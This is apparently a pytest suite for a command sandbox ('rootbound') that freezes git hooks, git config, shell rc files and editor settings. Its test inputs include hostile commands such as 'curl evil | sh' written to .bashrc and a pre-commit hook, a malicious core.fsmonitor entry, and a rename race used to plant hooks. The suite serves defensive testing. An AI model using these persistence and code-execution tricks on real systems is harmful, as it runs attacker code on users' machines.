"""Protected paths (`.git/hooks`, `.git/config`, `.mcp.json`, shell rc files) are read-only for commands under
bubblewrap: not writable, not removable, and not undone by moving a parent away; one that is missing is not held
by anything visible, but what a command creates there is removed once it ends, and reported.
Under Landlock alone they cannot be, and `rootbound check` says so."""

from __future__ import annotations

import gc
import json
import os
import subprocess
from functools import partial
from pathlib import Path

import anyio
import pytest

from rootbound.config import load_config
from rootbound.fs import Root
from rootbound.report import describe_commands
from rootbound.sandbox import bwrap, helper
from rootbound.sandbox.protect import Guards, guard_root
from tests.conftest import Harness, text_of
from tests.test_commands_support import CommandServers, eventually
from tests.test_sandbox_cwd import READ_ONLY, server_with

pytestmark = [pytest.mark.anyio, pytest.mark.skipif(not bwrap.probe().ok, reason=f"bubblewrap unusable here: "
                                                    f"{bwrap.probe().detail} (.ci/run installs it)")]


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    path = tmp_path / "workspace"
    path.mkdir()
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    (path / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    return path


def snapshot(root: Path) -> dict[str, str]:
    """Every path under `root` with its content (directories and links marked), to compare before and after."""
    seen = {}
    for base, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(base, name)
            rel = str(path.relative_to(root))
            seen[rel] = "<link>" if path.is_symlink() else "<dir>" if path.is_dir() else path.read_text()
    return seen


async def shell(h: Harness, command: str) -> str:
    result = await h.call("shell", command=command, root="workspace")
    assert result.structured_content is not None
    return str(result.structured_content.get("stderr"))


async def test_git_hooks_and_config_cannot_be_changed(servers: CommandServers, repo: Path) -> None:
    before = snapshot(repo / ".git")
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    for command in ("echo evil > .git/hooks/pre-commit", "echo evil > .git/hooks/post-checkout",
                    "chmod 777 .git/hooks/pre-commit", "rm -rf .git/hooks", "mv .git/hooks .git/h2",
                    "echo '[core] fsmonitor = evil' >> .git/config", "git config core.fsmonitor evil",
                    "rm -f .git/config", "mv .git/config .git/c2", "ln -sf /tmp/x .git/config"):
        await shell(h, command)
    assert snapshot(repo / ".git") == before
    # The rest of the repository stays writable: commits work.
    got = await h.ok("shell", command="echo a > a.txt && git add a.txt && git -c user.name=t -c user.email=t@t "
                                      "commit -qm a && git log --oneline | wc -l", root="workspace")
    assert got["stdout"] == "1\n"


async def test_a_commit_inside_holds_only_what_the_command_wrote(servers: CommandServers, repo: Path) -> None:
    """`git add -A` inside a command sees no placeholder (.bashrc, .mcp.json, ...), and the host's git status
    afterwards shows nothing deleted."""
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    got = await h.ok("shell", command="echo a > a.txt && git add -A && git -c user.name=t -c user.email=t@t "
                                      "commit -qm a && git show --name-only --format= HEAD", root="workspace")
    assert got["stdout"] == "a.txt\n"
    status = subprocess.run(["git", "status", "--porcelain"], cwd=repo, capture_output=True, text=True, check=True)
    assert status.stdout == ""


async def test_moving_a_parent_away_cannot_undo_it(servers: CommandServers, repo: Path) -> None:
    hooks, config = snapshot(repo / ".git" / "hooks"), (repo / ".git" / "config").read_text()
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    stderr = await shell(h, "mv .git .git-old; mv .git/hooks h; rm -rf .git; mkdir -p .git/hooks && "
                            "echo evil > .git/hooks/pre-commit")
    assert "busy" in stderr.lower()
    assert not (repo / ".git-old").exists()  # (`mv .git/hooks h` may leave a copy in h: a harmless one)
    # rm -rf removed what is not protected (objects, refs); the hooks and the config are exactly as they were.
    assert snapshot(repo / ".git" / "hooks") == hooks and (repo / ".git" / "config").read_text() == config


async def test_missing_protected_paths_created_by_a_command_are_removed(servers: CommandServers,
                                                                       tmp_path: Path) -> None:
    ws = tmp_path / "workspace"
    ws.mkdir()
    (ws / "src").mkdir()
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    await shell(h, "echo '{}' > .mcp.json; echo 'curl evil | sh' >> .bashrc; touch .profile .zshrc; "
                   "mkdir -p .git/hooks; git init; echo evil > .git/config")
    # Made while the command ran, gone once it ended.
    assert sorted(os.listdir(ws)) == ["src"]
    # Files that are not protected are created as usual.
    await shell(h, "echo x > .env && mkdir -p src/.git && echo y > src/notes")
    assert sorted(os.listdir(ws)) == [".env", "src"]


async def test_every_protected_file_made_in_one_folder_is_removed(servers: CommandServers, tmp_path: Path) -> None:
    """Rules that pass through one folder are walked and swept together (one look at a missing folder tells for
    all of them): each protected file a command makes there goes, what is not protected stays, in a folder that
    was missing and in one that was there."""
    ws = tmp_path / "workspace"
    (ws / ".vscode").mkdir(parents=True)
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    got = await h.ok("shell", command="mkdir .claude && for f in settings.json settings.local.json notes.md; do "
                     "echo x > .claude/$f; done && for f in tasks.json settings.json keep.md; do echo y > .vscode/$f; "
                     "done", root="workspace")
    assert sorted(got["removed"]) == ["workspace:.claude/settings.json", "workspace:.claude/settings.local.json",
                                      "workspace:.vscode/settings.json", "workspace:.vscode/tasks.json"], got
    assert os.listdir(ws / ".claude") == ["notes.md"]
    assert os.listdir(ws / ".vscode") == ["keep.md"]


async def test_folder_names_with_glob_characters_are_swept_as_names(servers: CommandServers, tmp_path: Path) -> None:
    """A rule with a wildcard before its last part (`cfg*/settings.json`) matches folders by pattern once, at the
    walk; the sweep then looks at the folders it found by their names. Before, it matched them as patterns again:
    `cfg[1]/settings.json` made by a command outlived it (`cfg[1]` as a pattern is `cfg1`), and one made in a
    folder named `cfg*` took the user's own `cfgA/settings.json` with it."""
    ws = tmp_path / "workspace"
    for folder in ("cfg[1]", "cfg*", "cfgA"):
        (ws / folder).mkdir(parents=True)
    (ws / "cfgA" / "settings.json").write_text("the user's\n")
    h = await servers({"allowed": "*", "sandbox": "bwrap"}, protected_paths=["cfg*/settings.json"])
    got = await h.ok("shell", command="echo x > 'cfg[1]/settings.json'; echo y > 'cfg*/settings.json'",
                     root="workspace")
    assert sorted(got["removed"]) == ["workspace:cfg*/settings.json", "workspace:cfg[1]/settings.json"], got
    assert sorted(p.name for p in ws.rglob("*")) == ["cfg*", "cfgA", "cfg[1]", "settings.json"]
    assert (ws / "cfgA" / "settings.json").read_text() == "the user's\n"


async def test_a_protected_file_a_command_creates_is_removed_and_reported(servers: CommandServers,
                                                                         tmp_path: Path) -> None:
    ws, audit = tmp_path / "workspace", tmp_path / "audit.jsonl"
    ws.mkdir()
    h = await servers({"allowed": "*", "sandbox": "bwrap", "audit_log": str(audit)})
    result = await h.call("shell", command="echo 'curl evil | sh' > .bashrc && cat .bashrc", root="workspace")
    got = result.structured_content
    assert got is not None and got["stdout"] == "curl evil | sh\n"  # the command itself could use it
    assert got["removed"] == ["workspace:.bashrc"]
    assert "the sandbox removed what the command created at protected paths" in text_of(result)
    assert "workspace:.bashrc" in text_of(result)
    assert not (ws / ".bashrc").exists()
    assert json.loads(audit.read_text().splitlines()[-1])["removed"] == ["workspace:.bashrc"]
    # execute_command reports it the same way.
    got = await h.ok("execute_command", command="touch .zshrc", root="workspace")
    assert got["removed"] == ["workspace:.zshrc"] and "workspace:.zshrc" in got["note"]
    assert os.listdir(ws) == []


async def test_nothing_is_created_for_missing_paths_while_commands_run(servers: CommandServers,
                                                                        tmp_path: Path) -> None:
    """No placeholder: neither the host nor the command sees anything at a missing protected path."""
    ws = tmp_path / "workspace"
    ws.mkdir()
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    results: dict[str, str] = {}

    async def slow() -> None:
        got = await h.ok("shell", command="ls -A; sleep 0.6; ls -A", root="workspace")
        results["slow"] = got["stdout"]

    async with anyio.create_task_group() as tg:
        tg.start_soon(slow)
        await anyio.sleep(0.3)
        assert os.listdir(ws) == []  # while it runs
        await shell(h, "echo x > .mcp.json")  # a quick one creates a protected file: removed when it ends
        tg.start_soon(partial(shell, h, "sleep 0.1"))
    assert results["slow"] == ""
    assert os.listdir(ws) == []


async def test_an_empty_file_of_the_users_own_is_frozen_not_removed(servers: CommandServers,
                                                                     tmp_path: Path) -> None:
    ws = tmp_path / "workspace"
    ws.mkdir()
    (ws / ".profile").touch()
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    await shell(h, "echo y > .profile; rm -f .profile")
    assert os.listdir(ws) == [".profile"] and (ws / ".profile").read_text() == ""


async def test_worktree_git_file_is_frozen(servers: CommandServers, tmp_path: Path) -> None:
    ws = tmp_path / "workspace"
    ws.mkdir()
    (ws / ".git").write_text("gitdir: /elsewhere/.git/worktrees/ws\n")
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    await shell(h, f"echo 'gitdir: {tmp_path}/evil' > .git; rm -f .git; mkdir -p .git/hooks")
    assert (ws / ".git").read_text() == "gitdir: /elsewhere/.git/worktrees/ws\n"


async def test_a_symlink_at_a_guarded_place_refuses_commands(servers: CommandServers, repo: Path) -> None:
    """A link's own place cannot be bound over (a mount follows it), and the command could replace the link:
    commands are refused, with a message that names the link but not where it points."""
    (repo / "shared-hooks").mkdir()
    os.rename(repo / ".git" / "hooks", repo / "shared-hooks" / "hooks")
    (repo / ".git" / "hooks").symlink_to("../shared-hooks/hooks")
    before = snapshot(repo)
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    error = await h.err("shell", command="echo evil > shared-hooks/hooks/pre-commit; rm .git/hooks; "
                                         "mkdir .git/hooks; echo evil > .git/hooks/post-merge", root="workspace")
    assert "workspace:.git/hooks is a symbolic link" in error and "Nothing was run" in error
    assert "shared-hooks" not in error
    assert snapshot(repo) == before


async def test_a_git_link_to_a_read_only_root_never_opens_it(servers: CommandServers, tmp_path: Path) -> None:
    """`.git -> docs` (as `move` can make), where docs is a read-only root nested in the writable one: the guards
    never bind it read-write, and the server creates nothing inside it."""
    ws, docs = tmp_path / "workspace", tmp_path / "workspace" / "docs"
    h = await server_with(servers, [{"name": "workspace", "path": str(ws)},
                                    {"name": "docs", "path": str(docs), "allowed_tools": READ_ONLY}],
                          {"allowed": "*", "sandbox": "bwrap"})
    (docs / "manual.txt").write_text("manual\n")
    (ws / ".git").symlink_to("docs")
    error = await h.err("shell", command="echo x > docs/manual.txt; echo x > .git/manual.txt; mkdir -p .git/hooks",
                        root="workspace")
    assert "workspace:.git is a symbolic link" in error
    assert os.listdir(docs) == ["manual.txt"] and (docs / "manual.txt").read_text() == "manual\n"


def test_check_says_where_protected_paths_hold(tmp_path: Path) -> None:
    cfg = tmp_path / "c.yaml"
    cfg.write_text(f"roots: [{{name: w, path: {tmp_path}}}]\ncommands: {{allowed: '*', sandbox: landlock}}\n")
    lines, problems = describe_commands(load_config(str(cfg), env={}))
    text = "\n".join(lines)
    assert not problems
    assert "protected paths: NOT read-only for commands under Landlock alone" in text
    helps = "commands.run_as (git's safe.directory ownership check then refuses repositories a command created)"
    assert helps in text and "safe.bareRepository explicit" in text
    cfg.write_text(cfg.read_text().replace("landlock", "bwrap"))
    text = "\n".join(describe_commands(load_config(str(cfg), env={}))[0])
    assert "OS confinement: bubblewrap" in text and "renaming a parent cannot undo it" in text
    assert "config, config.worktree, commondir, hooks, info, modules, worktrees (read-only)" in text
    assert "NOT frozen for commands: repositories below the top of a root" in text and helps in text
    assert "placeholder" not in text


async def test_what_a_timed_out_command_keeps_creating_is_removed(servers: CommandServers, tmp_path: Path) -> None:
    """A timeout ends bubblewrap first and its processes just after; the sweep runs once they are all gone (it
    waits for the sandbox's PID 1), so loops that keep recreating protected files leave nothing behind."""
    ws = tmp_path / "workspace"
    ws.mkdir()
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    for _ in range(3):
        result = await h.call("shell", command="(while :; do touch .bashrc; done) & while :; do touch .profile; done",
                              root="workspace", timeout=1)
        got = result.structured_content
        assert got is not None and got["timeout_seconds"] == 1
        assert os.listdir(ws) == []
        await anyio.sleep(0.2)
        assert os.listdir(ws) == []


async def test_a_git_a_command_makes_is_removed_however_deep_it_goes(servers: CommandServers, tmp_path: Path) -> None:
    # A tree ~1,000 deep made the sweep's removal (shutil.rmtree recurses) fail half-way: the .git stayed, with
    # its hook and config, for the user's next git to run.
    ws = tmp_path / "workspace"
    ws.mkdir()
    h = await servers({"allowed": "*", "sandbox": "bwrap"})
    try:
        got = await h.ok("shell", root="workspace",
                         command="git init -q && echo 'curl evil | sh' > .git/hooks/pre-commit && cd .git && i=0 && "
                                 "while [ $i -lt 1500 ]; do mkdir d && cd d || exit 1; i=$((i+1)); done")
        assert got["exit_code"] == 0, got
        assert got["removed"] == ["workspace:.git"]
        assert os.listdir(ws) == []
    finally:  # (a tree that deep would stop pytest's own clean-up of its temp folders, which recurses too)
        subprocess.run(["rm", "-rf", str(ws / ".git")], check=True)


# Command B starts while the guarded path is missing, so it is no mount point in B's namespace, and makes it;
# command A starts, and its guard binds it. B renames it away: a mount point in another namespace does not stop a
# rename, and A's bind would follow the entry to its new name; A would find the name free and make its own (a hook,
# or a whole .git whose config runs a program) that its sweep left, as the path was there when A started. So a path
# missing when a command still running started counts as missing for A too: not bound, and swept once A ends. Under
# the supervisor and under a bubblewrap per command (whose check that each bind landed where it was meant to runs
# once, before the rename).
_STARTS = [pytest.param("supervisor", marks=pytest.mark.skipif(
               os.geteuid() != 0 or helper.supervisor_bytes() is None,
               reason="the supervisor needs root and a C compiler")),
           "bubblewrap per command"]
_RENAMER = "{make}; while [ ! -e a-started ]; do sleep 0.05; done; mv {path} {path}-moved-away; echo renamed"
_PLANTER = ("touch a-started; while [ ! -e {path}-moved-away ]; do sleep 0.05; done; sleep 1; {plant} && "
            "echo planted")


@pytest.mark.parametrize("start", _STARTS)
@pytest.mark.parametrize(("make", "path", "plant", "planted"), [
    ("mkdir .git/hooks", ".git/hooks", "mkdir -p .git/hooks && printf '#!/bin/sh\\necho hi\\n' > .git/hooks/pre-commit",
     ".git/hooks/pre-commit"),
    ("git init -q .", ".git", "mkdir .git && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config",
     ".git/config"),
], ids=["hooks", "git"])
async def test_a_guarded_path_renamed_by_another_command_does_not_outlive_the_calls(
        servers: CommandServers, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, start: str, make: str, path: str,
        plant: str, planted: str) -> None:
    if start != "supervisor":
        monkeypatch.setattr(helper, "_built_supervisor", [None])
    ws = tmp_path / "workspace"
    ws.mkdir()
    if path != ".git":
        (ws / ".git").mkdir()
        (ws / ".git" / "config").write_text("[core]\n")
    h = await servers({"allowed": "*", "sandbox": "bwrap", "max_concurrent": 4})
    got: dict[str, dict[str, object]] = {}

    async def run(name: str, command: str) -> None:
        result = await h.call("shell", command=command, root="workspace", timeout=20)
        assert result.structured_content is not None, text_of(result)
        got[name] = result.structured_content

    async with anyio.create_task_group() as tg:
        tg.start_soon(run, "b", _RENAMER.format(make=make, path=path))
        assert await eventually(lambda: (ws / path).is_dir(), 10)
        await run("a", _PLANTER.format(path=path, plant=plant))
    assert got["b"]["stdout"] == "renamed\n" and got["a"]["stdout"] == "planted\n", got
    assert not (ws / planted).exists(), got


def test_a_path_counts_as_missing_only_while_the_command_it_was_missing_for_runs(tmp_path: Path) -> None:
    """The count of paths missing for running commands is what keeps another command from binding what one of them
    made; it must end with the command (close()), and with a Guards dropped without close() too: a path counted
    for ever would leave the user's own .git/hooks, once made, unguarded (writable, and swept) in every command."""
    ws = tmp_path / "workspace"
    (ws / ".git").mkdir(parents=True)
    root = Root("workspace", str(ws), frozenset({"write_file"}), os.open(ws, os.O_RDONLY | os.O_DIRECTORY))

    def bound_hooks() -> bool:
        guards = Guards()
        try:
            guard_root(root, [], guards)
            return str(ws / ".git" / "hooks") in guards.binds
        finally:
            guards.close()

    running = Guards()
    guard_root(root, [], running)  # .git/hooks is missing for this command
    (ws / ".git" / "hooks").mkdir()  # ... which makes it
    assert not bound_hooks()  # a command starting now does not bind it
    running.close()
    assert bound_hooks()  # once that command is done, it is guarded again
    (ws / ".git" / "hooks").rmdir()
    dropped = Guards()
    guard_root(root, [], dropped)  # missing again for another command, whose Guards is then dropped unclosed
    (ws / ".git" / "hooks").mkdir()
    assert not bound_hooks()
    del dropped
    gc.collect()
    assert bound_hooks()
    os.close(root.handle())
